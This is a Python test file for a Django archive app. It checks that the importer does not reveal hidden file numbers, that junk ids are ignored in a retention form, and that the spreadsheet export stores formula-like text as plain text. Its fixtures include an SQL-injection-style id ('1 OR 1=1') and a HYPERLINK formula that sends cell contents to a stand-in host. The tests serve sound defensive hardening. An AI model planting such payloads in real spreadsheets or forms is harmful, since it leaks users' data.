"""Small hardening: the importer's file-number message, junk ids in retention forms, and
spreadsheet formula injection in the daftar arsip export."""

import io
from datetime import date

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from arsip import retention
from arsip.models import KlasifikasiArsip, RetensiArsip
from sisp import roles
from tests.factories import UnitFactory


@pytest.fixture
def arsiparis(make_user, office, unit, reference):
    return make_user(roles.ARSIPARIS, office=office, unit=unit)


def _preview(client, csv):
    return client.post(
        reverse("arsip:import"), {"berkas": SimpleUploadedFile("daftar.csv", csv.encode())}
    )


def test_importing_into_a_hidden_file_reads_like_an_unknown_file(
    client, arsiparis, make_user, make_naskah, office
):
    other = UnitFactory(office=office)
    author = make_user(roles.STAF, office=office, unit=other)
    hidden = make_naskah(office=office, unit=other, created_by=author, kelas="SR")
    client.force_login(arsiparis)
    preview = _preview(
        client,
        (
            "Kode Klasifikasi;Nomor Berkas;Uraian Informasi Item;Tanggal\n"
            f"KA.00;{hidden.berkas.nomor_berkas};Surat susulan;05-03-2024\n"
        ),
    )
    assert "1 baris salah" in preview.text
    assert "sudah ada" not in preview.text and "tidak dapat Anda lihat" not in preview.text
    assert f"berkas dengan nomor {hidden.berkas.nomor_berkas} tidak ditemukan" in preview.text


def test_junk_file_ids_in_the_move_to_inactive_form_are_ignored(
    client, arsiparis, make_naskah, office, unit
):
    RetensiArsip.objects.create(
        klasifikasi=KlasifikasiArsip.objects.get(kode="KA.00"),
        aktif_tahun=2,
        inaktif_tahun=3,
        nasib_akhir="musnah",
    )
    naskah = make_naskah(office=office, unit=unit, created_by=arsiparis)
    retention.close_berkas(naskah.berkas, tanggal_tutup=date(2020, 1, 1), by=arsiparis)
    client.force_login(arsiparis)
    response = client.post(
        reverse("arsip:move_inactive"), {"berkas": ["abc", "1 OR 1=1", "", str(naskah.berkas_id)]}
    )
    assert response.status_code == 302
    naskah.berkas.refresh_from_db()
    assert naskah.berkas.status_retensi == "inaktif"


def test_export_writes_formula_like_text_as_plain_text(
    client, arsiparis, make_naskah, office, unit
):
    evil = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
    make_naskah(
        office=office,
        unit=unit,
        created_by=arsiparis,
        perihal=evil,
        nomor_surat="+62-1",
        keterangan="@SUM(1+1)",
        dari="-2+3",
    )
    client.force_login(arsiparis)
    exported = client.get(reverse("arsip:export"))
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
    row = [sheet.cell(4, col) for col in range(1, 18)]
    by_header = {sheet.cell(3, i + 1).value: cell for i, cell in enumerate(row)}
    for header, text in [
        ("Uraian Informasi Item", evil),
        ("Nomor Naskah", "+62-1"),
        ("Keterangan", "@SUM(1+1)"),
    ]:
        cell = by_header[header]
        assert cell.value == text and cell.data_type == "s", header


def test_export_writes_text_starting_with_tab_or_cr_and_a_formula_file_title_as_text(
    client, arsiparis, make_naskah, office, unit
):
    naskah = make_naskah(
        office=office,
        unit=unit,
        created_by=arsiparis,
        perihal="\t=1+1",
        keterangan="\r=2+2",
        lokasi_fisik="-Rak 1",
    )
    naskah.berkas.uraian = "@berkas"
    naskah.berkas.save(update_fields=["uraian"])
    client.force_login(arsiparis)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(reverse("arsip:export")).content)).active
    by_header = {sheet.cell(3, col).value: sheet.cell(4, col) for col in range(1, 18)}
    for header in (
        "Uraian Informasi Item",
        "Keterangan",
        "Lokasi Simpan",
        "Uraian Informasi Berkas",
    ):
        cell = by_header[header]
        assert cell.data_type == "s" and cell.quotePrefix, header
    assert by_header["Uraian Informasi Item"].value == "\t=1+1"
    assert by_header["Uraian Informasi Berkas"].value == "@berkas"
